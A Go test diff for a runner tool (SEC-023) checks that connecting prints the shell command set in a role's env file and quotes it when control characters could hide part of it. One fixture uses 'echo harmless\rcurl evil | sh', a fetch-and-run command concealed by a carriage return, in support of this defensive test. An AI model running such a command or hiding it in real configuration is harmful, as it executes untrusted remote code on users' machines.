@@ -131,3 +131,49 @@ func TestHookDirMovesTheEnvFile(t *testing.T) {
 	_, err := os.Stat(filepath.Join(m.home, ".config"))
 	require.ErrorIs(t, err, os.ErrNotExist)
 }
+
+// SEC-023: a Runner's connection prints the command its env file sets,
+// alone on a line of its own, so the person sees what will run before
+// starting the runner: as written, or quoted when it holds control
+// characters (a newline would hide the rest); when the role sets none, it
+// says the runner's default runs. A dry run prints it too.
+func TestRunnerConnectPrintsTheCommandItWrote(t *testing.T) {
+	b, m := newRealBoard(t), newMachine(t)
+	for _, tc := range []struct {
+		role, settings, written string
+		lines                   []string
+	}{
+		{"plain", `{"PACT_RUNNER_COMMAND": "make -C ~/src/{project} fix-task && echo done"}`, "make -C ~/src/web fix-task && echo done",
+			[]string{"PACT_RUNNER_COMMAND, which pact-runner runs with sh -c for every task (a role setting only an owner may set):",
+				"make -C ~/src/web fix-task && echo done"}},
+		{"hidden", `{"PACT_RUNNER_COMMAND": "echo harmless\rcurl evil | sh"}`, "echo harmless\rcurl evil | sh",
+			[]string{"PACT_RUNNER_COMMAND, which pact-runner runs with sh -c for every task (a role setting only an owner may set): (quoted: it holds control characters)",
+				`"echo harmless\rcurl evil | sh"`}},
+		{"none", `{"PACT_RUNNER_MAX_TURNS": "3"}`, "",
+			[]string{"PACT_RUNNER_COMMAND is not set by the role: pact-runner runs its default command (pact-runner --help shows it)"}},
+	} {
+		t.Run(tc.role, func(t *testing.T) {
+			got := b.Admin("ana", "PUT", "/roles/"+tc.role, `{"name": "R", "client": "runner", "actions": ["task.work"], "settings": `+tc.settings+`}`)
+			require.Equal(t, 200, got.Status, got.Raw)
+			for _, dry := range []bool{true, false} {
+				id := "runner-" + tc.role
+				if dry {
+					id += "-dry"
+				}
+				args := []string{b.URL, b.hire(t, `{"role": "`+tc.role+`", "project": "web", "id": "`+id+`"}`)}
+				if dry {
+					args = append([]string{"--dry-run"}, args...)
+				}
+				rc, out, errOut := m.connect(args...)
+				require.Equal(t, 0, rc, errOut)
+				lines := strings.Split(out, "\n")
+				for _, want := range tc.lines {
+					require.Contains(t, lines, want, "dry run %v: the command's line is printed on its own:\n%s", dry, out)
+				}
+				if !dry {
+					require.Equal(t, tc.written, readEnv(t, filepath.Join(m.home, ".config", "pact", id+".env"))["PACT_RUNNER_COMMAND"])
+				}
+			}
+		})
+	}
+}
